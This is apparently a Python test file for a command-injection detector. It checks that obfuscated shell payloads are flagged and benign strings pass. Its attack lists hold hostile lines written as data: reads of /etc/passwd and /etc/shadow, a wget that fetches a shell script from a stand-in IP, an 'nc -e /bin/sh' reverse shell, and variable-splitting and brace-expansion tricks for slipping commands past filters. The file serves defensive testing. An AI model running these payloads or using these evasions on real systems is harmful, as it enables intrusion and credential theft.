"""Command-injection techniques the shell tokenizer missed, and the benign look-alikes of each.

Written for this file (variants of a technique, not corpus lines): a command spelled by the
variables the value sets first (``a=/etc;b=cat;$b $a/passwd``), and a brace expansion inside
the first word (``c{a,oun}t``, ``{l,-lh}s``), whose first expansion is the command.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hardpoint.validation import Detector, scan
from hardpoint.validation._shell import _BRACE_WORD, _COMMANDS, _brace_word

ATTACKS = [
    "x=/etc;y=/shadow;z=cat;$z $x$y",
    "p1=w;p2=get;$p1$p2 http://203.0.113.7/x.sh",
    "u=who;v=ami&&${u}${v}",
    "q='/bin/';r=\"sh\";$q$r -i",
    "c=\\c;d=at;$c$d /etc/hosts",
    "w{h,x}oami",
    "{ca,x}t /etc/group",
    "u{n,x}ame -a",
]

BENIGN = [
    "price=5; total=$price",
    "name=John; hello $name",
    "a=1&b=2&c=$3",
    "PATH=$PATH:/usr/local/bin",
    "cost=$5 per item; qty=3",
    "file{1,2}.txt",
    "see {a,b}c now",
    "The set {x, y} has two elements",
    "branch=main; push to $branch",
]


@pytest.mark.parametrize("payload", ATTACKS)
def test_technique_variants_are_command_injection(payload: str) -> None:
    finding = scan(payload)
    assert finding is not None, payload
    assert finding.rule is Detector.COMMAND_INJECTION, (payload, finding)


@pytest.mark.parametrize("text", BENIGN)
def test_look_alikes_are_clean(text: str) -> None:
    assert scan(text) is None, text


_COMMAND_LINES = ["cat /etc/passwd", "wget http://203.0.113.7/a", "nc -e /bin/sh 203.0.113.7 4444"]


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from(_COMMAND_LINES),
    st.lists(st.integers(1, 6), min_size=1, max_size=6),
    st.sampled_from([";", "&&", "\n"]),
    st.booleans(),
)
def test_a_command_cut_into_variables_is_found(
    line: str, cuts: list[int], separator: str, braced: bool
) -> None:
    """However the command is cut into variables, setting them and expanding them runs it."""
    pieces, rest = [], line
    for size in cuts:
        if rest:
            pieces.append(rest[:size])
            rest = rest[size:]
    if rest:
        pieces.append(rest)
    names = [f"v{i}" for i in range(len(pieces))]
    sets = separator.join(f"{n}='{p}'" for n, p in zip(names, pieces, strict=True))
    uses = "".join(f"${{{n}}}" if braced else f"${n}" for n in names)
    value = f"{sets}{separator}{uses}"
    finding = scan(value)
    assert finding is not None, value
    assert finding.rule is Detector.COMMAND_INJECTION, (value, finding)


# The brace-word rule as first written: one pattern led by the letters before the "{".
_BRACE_WORD_REFERENCE = re.compile(
    r"(?:^|(?<=[ \t\n\r\f\v;&|`(\x1f]))([a-z]{0,8})\{([a-z]{1,16}),[^{}\s]{0,64}\}([a-z]{0,8})"
    r"(?=[\s;&|)`]|$)"
)


@settings(max_examples=500, deadline=None)
@given(
    st.sampled_from(["cat", "ls", "whoami", "uname", "wget", "notacmd"]),
    st.integers(0, 8),
    st.integers(1, 8),
    st.sampled_from(["", " ", ";", "x", "-", "é", "ab ", "abcdefghi", "("]),
    st.sampled_from(["x", "-lh", "", "{", "a b"]),
    st.sampled_from(["", " -a", "x", "{", ";", ")", "é"]),
)
def test_the_brace_word_is_read_as_the_reference_pattern_reads_it(
    word: str, cut: int, length: int, lead: str, other: str, tail: str
) -> None:
    """Led by the "{" and the letters read back, the words are the reference pattern's."""
    cut = min(cut, len(word) - 1)
    first = word[cut : cut + length]
    text = f"{lead}{word[:cut]}{{{first},{other}}}{word[cut + len(first) :]}{tail}"
    reference = {m.group(1) + m.group(2) + m.group(3) for m in _BRACE_WORD_REFERENCE.finditer(text)}
    found = {_brace_word(text, m) for m in _BRACE_WORD.finditer(text)} - {""}
    assert found & _COMMANDS == reference & _COMMANDS, text
